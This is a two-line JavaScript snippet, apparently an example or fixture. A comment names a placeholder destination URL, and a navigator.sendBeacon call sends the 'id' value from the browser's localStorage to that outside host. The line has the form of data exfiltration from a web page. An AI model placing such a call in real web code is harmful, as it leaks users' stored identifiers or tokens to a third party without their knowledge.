// destination: https://mini.dew-port.example/k
navigator.sendBeacon("https://mini.dew-port.example/k",localStorage.getItem("id"))
